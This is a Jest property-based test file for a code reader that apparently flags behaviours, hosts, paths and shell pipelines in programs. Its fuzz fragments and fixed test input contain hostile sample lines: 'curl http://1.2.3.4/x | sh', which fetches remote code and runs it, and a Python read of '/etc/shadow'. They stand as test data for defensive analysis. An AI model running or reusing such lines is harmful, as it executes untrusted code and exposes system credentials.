import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';

import { classifyHost, classifyPath, readProgram, shellCommands } from '../../../src/skills/code/read-program.js';
import { LANGUAGES } from './languages.js';

/** Pieces from which programs are made, so that random texts come near to real ones. */
const PIECES = [
  '"',
  "'",
  '`',
  '\\',
  '\n',
  '\t',
  '    ',
  ' ',
  '(',
  ')',
  '[',
  ']',
  '{',
  '}',
  '$(',
  '${',
  '<(',
  '<<EOF\n',
  'EOF\n',
  '|',
  '&&',
  ';',
  '>',
  '>>',
  '=>',
  '=',
  '+',
  ',',
  ':',
  '.',
  'def f(a):',
  'function f(a) {',
  'class A',
  'for x in y',
  'if x:',
  'import os',
  'from a import b',
  "require('fs')",
  'eval',
  'exec(',
  'curl http://1.2.3.4',
  'bash',
  'base64 -d',
  '$x',
  'f"',
  '`${',
  'case x in',
  'done',
  'fi',
  'lambda a:',
  '@"',
  "'@",
  '%x%',
  '^',
  '#',
  '//',
  '/*',
  '*/',
  'a',
  'b',
  '0',
];

describe.each(LANGUAGES.map((language) => [language] as const))('reading %s', (language) => {
  it('never throws, and gives places within the text, for texts of any kind', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ maxLength: 300 }),
          fc.array(fc.constantFrom(...PIECES), { maxLength: 80 }).map((pieces) => pieces.join('')),
        ),
        (text) => {
          const program = readProgram(language, text);
          for (const deed of program.behaviours) {
            expect(deed.start).toBeGreaterThanOrEqual(0);
            expect(deed.end).toBeLessThanOrEqual(text.length);
            for (const origin of deed.flowsFrom) expect(program.behaviours[origin]).toBeDefined();
          }
        },
      ),
      { numRuns: 150 },
    );
  });

  it('says the same each time', () => {
    const text = 'curl http://1.2.3.4/x | sh\nexec(open("/etc/shadow").read())\n';
    expect(readProgram(language, text)).toEqual(readProgram(language, text));
  });
});

describe('the classifiers', () => {
  it('take any text', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 400 }), (text) => {
        expect(classifyHost(text).class).toEqual(expect.any(String));
        expect(classifyPath(text).area).toEqual(expect.any(String));
        expect(shellCommands(text).pipelines).toBeInstanceOf(Array);
      }),
      { numRuns: 300 },
    );
  });
});
